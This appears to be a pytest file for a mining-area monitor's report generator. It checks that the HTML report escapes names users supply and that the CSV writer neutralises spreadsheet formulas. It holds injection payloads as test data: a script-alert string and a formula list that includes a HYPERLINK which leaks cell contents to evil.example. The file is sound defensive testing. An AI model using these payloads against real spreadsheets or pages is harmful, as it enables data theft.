"""The monitor's report: names from users are shown as text (HTML, CSV, charts), the page
stands alone, an empty history still gives a page, and the CSV writer quotes what needs it."""

from __future__ import annotations

import csv
from html.parser import HTMLParser

import matplotlib
import pytest
from coalmine.runtime.monitor import load_config, run_monitor
from coalmine.runtime.monitor.reports import TOTAL, ReportData, chart_aois
from coalmine.runtime.tables import write_csv
from matplotlib.backends.backend_agg import FigureCanvasAgg
from test_monitor_data import make_mask_project, mine_mask, oracle_run_scene, write_aois, write_mask

SCRIPT = "<script>alert('x')</script> & co"
MATH = r"Pit $x^2$ and $\frac{$"  # valid math text, then an unclosed one: both must stay literal
TITLE = 'Tapin <b>"north"</b> & <i>'


class _Text(HTMLParser):
    """The page's text and the tags it holds, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.text: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _parse(page: str) -> _Text:
    p = _Text()
    p.feed(page)
    return p


@pytest.fixture
def hostile(tmp_path):
    p = make_mask_project(tmp_path, years=range(2017, 2019))
    write_aois(p["aois"], names=(SCRIPT, MATH))
    cfg = p["config"].read_text().replace('title = "Test region"', f"title = '{TITLE}'")
    p["config"].write_text(cfg)
    write_mask(p["scenes"] / "S2_20190715_broken<b>.tif", mine_mask(2019))
    return p


def test_names_title_and_errors_are_shown_as_text(hostile):
    s = run_monitor(load_config(hostile["config"]), runner=oracle_run_scene)
    assert (s.processed, s.failed) == (3, 1)  # the $…$ names did not stop the charts
    page = s.report.read_text(encoding="utf-8")
    parsed = _parse(page)
    # no markup from the names: the only tags are the template's own
    assert {"script", "b", "i"}.isdisjoint(parsed.tags)
    text = "".join(parsed.text)
    assert f"{TITLE} — mined area report" in text
    assert text.count(SCRIPT) == 2 and text.count(MATH) == 2  # yearly table row + change table header
    assert "S2_20190715_broken<b>.tif" in text
    # the CSV header holds the names as they are
    with open(hostile["root"] / "out" / "reports" / "yearly_areas.csv", newline="", encoding="utf-8") as f:
        assert next(csv.reader(f)) == ["year", SCRIPT, MATH, "total_mapped_area"]
    with open(hostile["root"] / "out" / "reports" / "changes.csv", newline="", encoding="utf-8") as f:
        assert {r["area"] for r in csv.DictReader(f)} == {SCRIPT, MATH, TOTAL}


def test_chart_legend_draws_dollar_names_literally():
    name = "Pit $x^2$"
    data = ReportData(years=[2018, 2019], names=[name], table={2018: {name: 1.0, TOTAL: 1.0}, 2019: {name: 2.0, TOTAL: 2.0}},
                      composites={}, changes=[], change_maps=[], scenes=[])
    fig = chart_aois(data)
    canvas = FigureCanvasAgg(fig)
    canvas.draw()
    (label,) = fig.axes[0].get_legend().get_texts()
    assert label.get_text() == name
    width = label.get_window_extent(canvas.get_renderer()).width

    def drawn(parse_math: bool) -> float:
        t = fig.text(0, 0, name, fontsize=label.get_fontsize(), parse_math=parse_math)
        return t.get_window_extent(canvas.get_renderer()).width

    assert width == pytest.approx(drawn(False)) and width != pytest.approx(drawn(True), abs=1)
    assert matplotlib.rcParams["text.parse_math"] is True  # the report's settings did not leak


def test_no_processed_scene_gives_a_page_without_figures(tmp_path):
    p = make_mask_project(tmp_path, years=range(2018, 2019))
    for f in p["scenes"].iterdir():
        f.rename(f.with_name(f.name.replace("scene", "broken")))
    s = run_monitor(load_config(p["config"]), runner=oracle_run_scene)
    assert (s.processed, s.failed, s.exit_code) == (0, 1, 1)
    text = "".join(_parse(s.report.read_text(encoding="utf-8")).text)
    assert "No scene has been processed successfully yet" in text
    assert "S2_20180715_broken.tif" in text and "not a raster" in text
    assert "Mined area per year" not in text


def test_write_csv_quotes_cells_and_leaves_none_empty(tmp_path):
    rows = [["a,b", 'say "hi"', "two\nlines", None, 1.5], ["plain", "", "x", 0, -2]]
    path = write_csv(tmp_path / "t.csv", ["c1", "c2", "c3", "c4", "c5"], rows)
    with open(path, newline="", encoding="utf-8") as f:
        got = list(csv.reader(f))
    assert got == [["c1", "c2", "c3", "c4", "c5"], ["a,b", 'say "hi"', "two\nlines", "", "1.5"], ["plain", "", "x", "0", "-2"]]
    assert not [q for q in tmp_path.iterdir() if q.name != "t.csv"]  # no temporary file left


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\tx", "\r=1")


def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    path = write_csv(tmp_path / "t.csv", ["name", *FORMULAS[:1]], [[f, -2.5, 3, None] for f in FORMULAS])
    raw = path.read_bytes().decode("utf-8")
    with open(path, newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    assert header == ["name", "'" + FORMULAS[0]]
    assert [r[0] for r in rows] == ["'" + f for f in FORMULAS]
    # numbers are written as numbers: unquoted, no apostrophe, the minus sign kept
    assert all(r[1:] == ["-2.5", "3", ""] for r in rows)
    assert ",-2.5,3," in raw
    # every cell a spreadsheet reads starts with a harmless character
    cells = [c for r in [header, *rows] for c in r if c]
    assert not [c for c in cells if c[0] in "=+@\t\r" or (c[0] == "-" and not c[1:2].isdigit())]


def test_aoi_named_like_a_formula_reaches_the_csv_as_text(tmp_path):
    p = make_mask_project(tmp_path, years=range(2017, 2019))
    write_aois(p["aois"], names=(FORMULAS[0], "@cmd"))
    s = run_monitor(load_config(p["config"]), runner=oracle_run_scene)
    assert s.exit_code == 0
    with open(tmp_path / "out" / "reports" / "yearly_areas.csv", newline="", encoding="utf-8") as f:
        header = next(csv.reader(f))
    assert header == ["year", "'" + FORMULAS[0], "'@cmd", "total_mapped_area"]
    with open(tmp_path / "out" / "reports" / "changes.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["area"] for r in rows} == {"'" + FORMULAS[0], "'@cmd", TOTAL}
    # a negative change stays a number, not text with an apostrophe
    assert any(r["change_ha"].startswith("-") and float(r["change_ha"]) < 0 for r in rows)
